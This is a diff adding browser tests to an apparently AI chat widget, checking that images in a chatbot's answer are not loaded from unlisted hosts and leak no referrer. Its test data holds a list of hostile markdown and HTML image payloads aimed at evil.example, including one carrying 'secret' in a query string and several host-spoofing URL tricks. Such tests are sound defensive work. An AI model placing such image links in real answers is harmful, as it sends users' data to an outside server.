@@ -193,3 +193,48 @@ it("a site that changes its pages without loading them leads to the passage too,
   expect(await page.evaluate(() => sessionStorage.getItem("customgpt-widget:passage"))).toBeNull();
   await context.close();
 });
+
+describe("pictures in an answer", () => {
+  const hostile = [
+    "![a](https://evil.example/1?q=secret)",
+    "![b][c] ![d]",
+    "<img src='https://evil.example/2'> <svg><image href='https://evil.example/3'/></svg>",
+    "[![e](//evil.example/4)](https://evil.example/5)",
+    "![f](https://cdn.example.com.evil.example/6) ![g](https://cdn.example.com@evil.example/7)",
+    "![h](data:image/svg+xml;base64,PHN2Zz4=) <style>@import 'https://evil.example/8'</style>",
+    "| ![i](https://evil.example/9) |\n|-|\n| ![j](https:\\\\evil.example/10) |",
+    "![allowed](https://cdn.example.com/yes.png)",
+    "[c]: https://evil.example/11\n[d]: https://evil.example/12",
+  ].join("\n\n");
+
+  async function shown(attributes: string) {
+    const start = site.put(`<!doctype html><html lang="en"><title>Shop</title><main><p>Welcome.</p></main>
+      <script src="${house.address}/widget.js" ${attributes} async></script>`);
+    const { page, context, requests } = await visit(browser);
+    const chat = chatOn(page);
+    const referrers: (string | undefined)[] = [];
+    await context.route(/evil\.example|cdn\.example/, (route) => {
+      referrers.push(route.request().headers()["referer"]);
+      return route.fulfill({ status: 204 });
+    });
+    await tellAnswer(context, { answer: hostile, citations: [] });
+    await page.goto(start);
+    await chat.open();
+    await chat.ask("Show me");
+    await chat.answered();
+    await page.waitForLoadState("networkidle");
+    const foreign = requests.filter((each) => ![house, site].some(({ address }) => each.startsWith(address)));
+    await context.close();
+    return { referrers, foreign };
+  }
+
+  it("are not asked for, however they are written", async () => {
+    expect(await shown("")).toEqual({ referrers: [], foreign: [] });
+  });
+
+  it("are asked for from hosts that the owner listed, and no others, without saying on which page", async () => {
+    const { referrers, foreign } = await shown('data-images="cdn.example.com"');
+    expect(foreign).toEqual(["https://cdn.example.com/yes.png"]);
+    expect(referrers).toEqual([undefined]);
+  });
+});
